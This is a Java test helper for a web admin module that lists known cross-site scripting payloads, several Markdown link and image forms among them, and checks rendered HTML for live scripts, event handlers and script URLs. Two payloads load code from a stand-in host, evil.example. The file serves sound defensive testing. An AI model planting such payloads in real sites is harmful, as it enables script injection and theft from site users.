package io.skillspassport.web.admin;

import java.util.List;
import java.util.Locale;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;

/**
 * Known cross-site scripting payloads, as an attacker would type them into a Markdown section, and
 * the check that rendered HTML carries none of them in a live form. Collected from the OWASP XSS
 * Filter Evasion Cheat Sheet and PortSwigger's XSS cheat sheet, plus the Markdown-specific link and
 * image forms.
 */
final class XssPayloads {

  private XssPayloads() {}

  static final List<String> ALL =
      List.of(
          "<script>alert('xss-1')</script>",
          "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
          "<img src=x onerror=alert('xss-3')>",
          "<svg onload=alert('xss-4')>",
          "<svg><script>alert('xss-5')</script></svg>",
          "<iframe src=\"javascript:alert('xss-6')\"></iframe>",
          "<body onload=alert('xss-7')>",
          "<a href=\"javascript:alert('xss-8')\">click</a>",
          "[click](javascript:alert('xss-9'))",
          "[click](JaVaScRiPt:alert('xss-10'))",
          "[click](javascript&#58;alert('xss-11'))",
          "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('xss-12'))",
          "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgneHNzJyk8L3NjcmlwdD4=)",
          "![img](javascript:alert('xss-14'))",
          "![img](x \"onerror=alert('xss-15')\")",
          "<div style=\"width: expression(alert('xss-16'))\">x</div>",
          "<a href=\"#\" onclick=\"alert('xss-17')\">x</a>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-18')>",
          "<details open ontoggle=alert('xss-19')>",
          "<input autofocus onfocus=alert('xss-20')>",
          "<object data=\"javascript:alert('xss-21')\"></object>",
          "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('xss-22')\">",
          "[click](vbscript:msgbox('xss-23'))",
          "<a href=\"&#x6A;avascript:alert('xss-24')\">x</a>",
          "\"><script>alert('xss-25')</script>",
          "[x](<javascript:alert('xss-26')>)",
          "<style>@import 'https://evil.example/x.css';</style>");

  /**
   * Elements that run or load something by themselves. Not {@code details}: the layout's phone menu
   * is one, and a payload needs an event handler on it ({@code ontoggle}), which the attribute
   * check below finds on any element.
   */
  private static final List<String> DANGEROUS_ELEMENTS =
      List.of("script", "iframe", "object", "embed", "style", "math", "frame", "base");

  private static final List<String> URL_ATTRIBUTES =
      List.of("href", "src", "action", "formaction", "data", "xlink:href", "poster", "background");

  /**
   * The first live piece of markup in {@code html} that a browser would act on — a script-capable
   * element, an event-handler attribute, a script or data URL, a CSS expression, a meta refresh —
   * or null when there is none. Parsed as a browser would, so escaped text that merely reads like a
   * payload does not count, while entity-encoded URLs are decoded before they are checked.
   */
  static String firstLiveMarkup(String html) {
    if (html.toLowerCase(Locale.ROOT).contains("<script")) {
      return "a <script tag";
    }
    for (Element element : Jsoup.parse(html).getAllElements()) {
      if (DANGEROUS_ELEMENTS.contains(element.normalName())) {
        return element.outerHtml();
      }
      for (Attribute attribute : element.attributes()) {
        String name = attribute.getKey().toLowerCase(Locale.ROOT);
        String value = attribute.getValue().strip().toLowerCase(Locale.ROOT).replaceAll("\\s", "");
        if (name.startsWith("on")) {
          return element.outerHtml();
        }
        if (URL_ATTRIBUTES.contains(name)
            && (value.startsWith("javascript:")
                || value.startsWith("vbscript:")
                || value.startsWith("data:"))) {
          return element.outerHtml();
        }
        if (name.equals("style") && value.contains("expression(")) {
          return element.outerHtml();
        }
        if (name.equals("http-equiv")) {
          return element.outerHtml();
        }
      }
    }
    return null;
  }
}
